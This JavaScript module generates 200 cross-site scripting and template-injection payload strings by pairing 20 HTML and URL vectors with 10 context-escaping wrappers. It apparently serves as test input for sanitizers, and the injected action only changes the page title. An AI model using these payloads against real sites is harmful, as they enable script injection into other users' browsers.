// Texts that would do something if a page took them for markup or an address: ways to be obeyed, times ways to get there.

const DEED = "document.title='broken'";
const WAYS = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `<svg onload="${deed}">`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  (deed) => `<a href="javascript:${deed}">here</a>`,
  (deed) => `<details open ontoggle="${deed}">`,
  (deed) => `<input autofocus onfocus="${deed}">`,
  (deed) => `<video><source onerror="${deed}"></video>`,
  (deed) => `<math><mtext></mtext><mglyph><style><img src=x onerror="${deed}">`,
  (deed) => `<template><script>${deed}</script></template>`,
  (deed) => `<style>@import 'javascript:${deed}';</style>`,
  (deed) => `<object data="data:text/html,<script>${deed}</script>"></object>`,
  (deed) => `<base href="javascript:${deed}//">`,
  (deed) => `<meta http-equiv="refresh" content="0;url=javascript:${deed}">`,
  (deed) => `<form action="javascript:${deed}"><button>go</button></form>`,
  (deed) => `<marquee onstart="${deed}">`,
  (deed) => `<body onload="${deed}">`,
  (deed) => `javascript:${deed}`,
  (deed) => `data:text/html,<script>${deed}</script>`,
];
const WRAPPERS = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</textarea>${text}`,
  (text) => `</title>${text}`,
  (text) => `-->${text}`,
  (text) => `]]>${text}`,
  (text) => text.replace(/</g, "&lt;").replace(/>/g, "&gt;"),
  (text) => `{{constructor.constructor("${DEED}")()}}${text}`,
  (text) => text.replace(/(script|img|svg|iframe)/gi, (word) => word.toUpperCase()),
];

/** 200 of them. */
export const PAYLOADS = WAYS.flatMap((way) => WRAPPERS.map((wrap) => wrap(way(DEED))));
